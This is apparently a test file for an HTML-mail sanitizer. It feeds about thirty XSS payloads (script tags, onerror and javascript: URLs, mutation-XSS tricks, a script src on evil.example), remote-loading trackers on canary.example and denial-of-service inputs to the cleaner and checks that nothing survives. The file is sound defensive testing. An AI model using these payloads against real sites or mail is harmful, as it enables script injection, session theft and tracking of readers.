import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeHtml } from "./safe-html";

/** Everything that a cleaned mail may contain, read strictly: a tag outside this grammar is a finding. */
const TAG = /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g;
const ALLOWED_ATTRIBUTE =
  /^(?:href="(?:https?:\/\/|mailto:)[^"]*"|rel="noopener noreferrer nofollow"|(?:col|row)span="[^"]*")$/i;
const FORBIDDEN_TAG =
  /^(?:script|style|img|svg|math|iframe|object|embed|link|meta|base|form|input|video|audio|source|picture|body|html)$/;

function findings(clean: string): string[] {
  const tags = [...clean.matchAll(TAG)];
  const outside = clean.replace(TAG, "");
  return [
    ...(/[<>]/.test(outside) ? [`not a tag we know: ${outside}`] : []),
    ...tags.flatMap(([, name = ""]) => (FORBIDDEN_TAG.test(name) ? [`tag ${name}`] : [])),
    ...tags.flatMap(([, , attributes = ""]) =>
      (attributes.match(/[a-z]+="[^"]*"/g) ?? []).filter((attribute) => !ALLOWED_ATTRIBUTE.test(attribute)),
    ),
  ];
}

const XSS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="/log-out">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<form action=javascript:alert(1)><input type=submit></form>",
  '<object data="javascript:alert(1)"></object>',
  "<details open ontoggle=alert(1)>x</details>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<!--><script>alert(1)</script>-->",
  "<xmp><script>alert(1)</script></xmp>",
  "<p/onmouseover=alert(1)>x",
  '<base href="https://evil.example/">',
  "<a xlink:href='javascript:alert(1)'>x</a>",
  "<<script>script>alert(1)<</script>/script>",
];

const REMOTE = [
  "<img src=https://canary.example/1>",
  "<img srcset='https://canary.example/2 2x'>",
  "<picture><source srcset=https://canary.example/3></picture>",
  "<table background=https://canary.example/4><tr><td background=https://canary.example/5>x</td></tr></table>",
  "<body background=https://canary.example/6>",
  "<style>@import url(https://canary.example/7);</style>",
  "<link rel=stylesheet href=https://canary.example/8>",
  "<link rel=dns-prefetch href=//canary.example>",
  "<link rel=preload as=image href=https://canary.example/9>",
  "<video poster=https://canary.example/10 src=https://canary.example/11></video>",
  "<audio src=https://canary.example/12></audio>",
  "<video><source src=https://canary.example/13><track src=https://canary.example/14></video>",
  "<svg><image href=https://canary.example/15 /></svg>",
  "<svg><use xlink:href=https://canary.example/16#a /></svg>",
  "<svg><feImage href=https://canary.example/17 /></svg>",
  "<div style='background:url(https://canary.example/18)'>x</div>",
  "<li style='list-style-image:url(https://canary.example/19)'>x</li>",
  "<span style=\"content:url('https://canary.example/20')\">x</span>",
  "<p style='font-family:x;src:url(https://canary.example/21)'>x</p>",
  "<iframe src=https://canary.example/22></iframe>",
  "<embed src=https://canary.example/23>",
  "<object data=https://canary.example/24></object>",
  "<input type=image src=https://canary.example/25>",
  "<meta http-equiv=refresh content='0;url=https://canary.example/26'>",
  "<a href=https://ok.example ping=https://canary.example/27>x</a>",
  "<blockquote cite=https://canary.example/28>x</blockquote>",
  "<script src=https://canary.example/29></script>",
  "<form action=https://canary.example/30></form>",
];

describe("nothing that runs or loads survives", () => {
  test.each([...XSS, ...REMOTE])("%s", (vector) => {
    const clean = safeHtml(`<p>before</p>${vector}<p>after</p>`);
    expect(findings(clean)).toEqual([]);
    expect(clean).not.toContain("canary.example");
    expect(clean).not.toContain("evil.example");
  });

  test("in any mixture of tags, attributes and the vectors above", () => {
    const name = fc.constantFrom(
      "p",
      "a",
      "td",
      "div",
      "svg",
      "style",
      "script",
      "img",
      "math",
      "iframe",
      "b",
      "ul",
      "x-y",
    );
    const attribute = fc.constantFrom(
      "href",
      "src",
      "style",
      "onload",
      "class",
      "id",
      "colspan",
      "srcset",
      "xlink:href",
      "rel",
    );
    const value = fc.oneof(
      fc.constantFrom(
        "javascript:alert(1)",
        "https://ok.example/?a=1",
        "//x",
        "data:,x",
        "mailto:a@b.example",
        "url(https://x)",
      ),
      fc.string(),
    );
    const quote = fc.constantFrom('"', "'", "");
    const open = fc
      .tuple(name, fc.array(fc.tuple(attribute, value, quote), { maxLength: 3 }))
      .map(
        ([tag, list]) =>
          `<${tag} ${list.map(([key, said, mark]) => `${key}=${mark}${said}${mark}`).join(" ")}>`,
      );
    const piece = fc.oneof(
      open,
      name.map((tag) => `</${tag}>`),
      fc.string(),
      fc.constantFrom(...XSS, ...REMOTE, "<!--", "-->", "<![CDATA["),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(findings(safeHtml(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe("what a person reads survives", () => {
  test("text, structure and outward links, which carry no referrer", () => {
    expect(
      safeHtml(
        '<p class="x">Hi <b>Robin</b>, <a href="https://ok.example/a?b=1&amp;c=2" target="_top">see</a></p>',
      ),
    ).toBe(
      '<p>Hi <b>Robin</b>, <a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">see</a></p>',
    );
  });

  test("the text of a link that does not say where it goes", () => {
    expect(safeHtml('<a href="/settings">our page</a> <a>bare</a>')).toBe(
      "<span>our page</span> <span>bare</span>",
    );
  });
});

describe("a page made to be slow is cleaned without hanging", () => {
  test.each([
    ["20,000 open tags", "<div>".repeat(20_000)],
    ["200,000 open tags", "<div>".repeat(200_000)],
    ["100,000 attributes", `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join(" ")}>x`],
    ["5,000 tables", "<table><tr><td>x</td></tr></table>".repeat(5_000)],
    ["a million less-than signs", "<".repeat(1_000_000)],
    ["ten megabytes", "<p>lorem</p>".repeat(900_000)],
    ["unclosed attributes", '<a href="'.repeat(110_000)],
  ])("%s", (_case, html) => {
    const begun = performance.now();
    const clean = safeHtml(html);
    expect(performance.now() - begun).toBeLessThan(5_000);
    expect(findings(clean)).toEqual([]);
  });

  test("and what is too large keeps its words", () => {
    expect(safeHtml(`<p>Dear "Robin" & co</p>${" ".repeat(1 << 20)}`)).toContain(
      "Dear &#34;Robin&#34; &#38; co",
    );
  });
});
